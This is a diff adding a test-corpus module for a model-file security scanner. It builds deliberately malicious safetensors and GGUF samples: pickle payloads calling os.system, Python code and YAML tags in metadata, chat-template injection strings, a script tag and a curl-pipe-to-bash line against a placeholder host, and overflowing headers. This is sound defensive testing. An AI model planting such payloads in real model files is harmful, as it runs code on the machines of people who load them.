@@ -1,0 +1,101 @@
+"""Data formats of models: tensors, trees, tokenizers, and texts in their metadata."""
+
+from __future__ import annotations
+
+import base64
+import json
+import struct
+from typing import TYPE_CHECKING
+
+from chainguard_ml.model import Severity
+from tests.corpus.frame import malicious
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from tests.corpus.frame import Malicious
+
+PAYLOAD = b"\x80\x02cos\nsystem\nX\x09\0\0\0echo seen\x85R."
+CALL = "__import__('os').system('echo seen')"
+TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
+
+
+def samples() -> Iterator[Malicious]:
+    """Every technique of this area."""
+    yield from _safetensors()
+    yield from _gguf()
+
+
+def _tensors(header: object, body: bytes = b"") -> bytes:
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("<Q", len(text)) + text + body
+
+
+def _safetensors() -> Iterator[Malicious]:
+    def one(name: str, data: bytes, rule: str, least: Severity = Severity.HIGH) -> Malicious:
+        return malicious(f"safetensors-{name}", "model.safetensors", data, rule, least=least)
+
+    def note(text: str) -> bytes:
+        return _tensors({"__metadata__": {"format": "pt", "note": text}})
+
+    eight = {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}
+    yield one("metadata-call", note(CALL), "code-in-metadata")
+    yield one("metadata-shell", note("curl https://index.example/x.sh | bash"), "code-in-metadata")
+    yield one("metadata-base64-pickle", note(base64.b64encode(PAYLOAD).decode()), "dangerous-global")
+    yield one("metadata-hex-pickle", note(PAYLOAD.hex()), "dangerous-global")
+    yield one("metadata-latin1-pickle", note(PAYLOAD.decode("latin-1")), "dangerous-global")
+    yield one("metadata-yaml-tag", note("!!python/object/apply:os.system ['echo seen']"), "code-in-metadata")
+    yield one("metadata-template", note(TEMPLATE), "chat-template-injection")
+    yield one("metadata-json-template", note(json.dumps({"chat_template": TEMPLATE})), "chat-template-injection")
+    yield one("metadata-script-tag", note("<script>fetch('//index.example')</script>"), "code-in-metadata")
+    yield one("header-length-overflow", b"\xff" * 8 + b'{"a":1}', "safetensors-bad-header")
+    yield one("header-too-long", struct.pack("<Q", 1 << 30) + b'{"a":1}', "safetensors-bad-header", Severity.MEDIUM)
+    twice = b'{"w":' + json.dumps(eight).encode() + b',"\\u0077":' + json.dumps(eight).encode() + b"}"
+    yield one("name-twice-by-escape", _tensors(twice, bytes(8)), "safetensors-bad-header", Severity.MEDIUM)
+    yield one("tensor-is-a-pickle", _tensors({"w": {**eight, "shape": [64], "data_offsets": [0, 64]}},
+                                             PAYLOAD.ljust(64, b"\0")), "dangerous-global")  # fmt: skip
+    hole = {"w": {**eight, "data_offsets": [64, 72]}}
+    yield one("hole", _tensors(hole, bytes(72)), "safetensors-overlap", Severity.MEDIUM)
+    yield one("trailing-pickle", _tensors({"w": eight}, bytes(8) + PAYLOAD), "dangerous-global")
+
+
+def _text(value: str) -> bytes:
+    raw = value.encode()
+    return struct.pack("<Q", len(raw)) + raw
+
+
+def _gguf() -> Iterator[Malicious]:
+    def one(name: str, data: bytes, rule: str, least: Severity = Severity.HIGH) -> Malicious:
+        return malicious(f"gguf-{name}", "model.gguf", data, rule, least=least)
+
+    def file(pairs: bytes, count: int, tensors: bytes = b"", number: int = 0, body: bytes = b"") -> bytes:
+        head = b"GGUF" + struct.pack("<IQQ", 3, number, count) + pairs + tensors
+        return head + bytes(-len(head) % 32) + body
+
+    def tensor(name: str, shape: tuple[int, ...], kind: int, offset: int) -> bytes:
+        return _text(name) + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, kind, offset)
+
+    def text(key: str, value: str) -> bytes:
+        return file(_text(key) + struct.pack("<I", 8) + _text(value), 1)
+
+    yield one("template", text("tokenizer.chat_template", TEMPLATE), "chat-template-injection")
+    yield one("named-template", text("tokenizer.chat_template.rag", TEMPLATE), "chat-template-injection")
+    array = _text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + _text(TEMPLATE)
+    yield one("template-in-array", file(array, 1), "chat-template-injection")
+    yield one("metadata-call", text("general.description", CALL), "code-in-metadata")
+    yield one("metadata-pickle", text("general.extra", base64.b64encode(PAYLOAD).decode()), "dangerous-global")
+    yield one("count-overflow", b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 61), "gguf-bad-header")
+    yield one("string-overflow", file(struct.pack("<Q", (1 << 64) - 1), 1), "gguf-bad-header")
+    yield one("array-overflow", file(_text("a") + struct.pack("<IIQ", 9, 8, 1 << 61), 1), "gguf-bad-header")
+    yield one("dimensions", file(b"", 0, tensor("w", (1,) * 5, 0, 0), 1, bytes(32)), "gguf-bad-header")
+    yield one("shape-overflow", file(b"", 0, tensor("w", (1 << 33, 1 << 33), 0, 0), 1), "gguf-bad-header")
+    yield one("negative-shape", file(b"", 0, tensor("w", ((1 << 64) - 4,), 0, 0), 1), "gguf-bad-header")
+    alignment = _text("general.alignment") + struct.pack("<II", 4, 0)
+    yield one("alignment-zero", file(alignment, 1), "gguf-bad-header")
+    twice = tensor("a", (8,), 0, 0) + tensor("b", (8,), 0, 0)
+    yield one("overlap", file(b"", 0, twice, 2, bytes(64)), "gguf-bad-header", Severity.MEDIUM)
+    hidden = tensor("a", (8,), 0, 0) + tensor("b", (8,), 0, 96)
+    body = bytes(32) + PAYLOAD.ljust(64, b"\0") + bytes(32)
+    yield one("pickle-between-tensors", file(b"", 0, hidden, 2, body), "dangerous-global")
+    yield one("tensor-is-a-pickle", file(b"", 0, tensor("w", (64,), 24, 0), 1, PAYLOAD.ljust(64, b"\0")),
+              "dangerous-global")  # fmt: skip
